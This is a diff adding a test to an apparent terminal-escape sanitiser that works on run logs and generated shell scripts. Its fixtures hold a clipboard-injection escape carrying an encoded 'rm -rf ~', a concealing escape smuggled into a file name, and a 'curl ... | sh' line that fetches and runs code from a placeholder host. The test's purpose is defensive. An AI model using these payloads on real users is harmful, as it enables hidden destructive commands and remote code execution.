@@ -84,3 +84,17 @@ def test_a_run_log_is_reported_with_visible_escapes(project: Path) -> None:
     output = preflight(project, "report", str(log))
     assert "Ok \\x1b]52;c;cm0gLXJmIH4=\\x07 hi" in output
     assert ESC not in output
+
+
+def test_a_generated_script_prints_and_holds_no_escape_sequence(project: Path) -> None:
+    """The step title the script prints and the comments it holds show escapes as text;
+    the code itself is left exactly as written (it is what runs)."""
+    path = project / "checklists" / f"deploy{ESC}[8m.md"
+    script = preflight(project, "extract", str(path), "--format", "sh")
+    code_line = next(line for line in script.splitlines() if "| sh;" in line)
+    assert code_line.strip() == f"curl -s https://example.invalid/x | sh; {HIDE}echo hello"
+    # The checklist's path as the value of PREFLIGHT_CHECKLIST is data, quoted, exact.
+    exact = [code_line, f"export PREFLIGHT_CHECKLIST='checklists/deploy{ESC}[8m.md'"]
+    rest = "\n".join(line for line in script.splitlines() if line.strip() not in exact)
+    assert ESC not in rest
+    assert "Copy \\x1b]52;c;cm0gLXJmIH4=\\x07 this" in rest
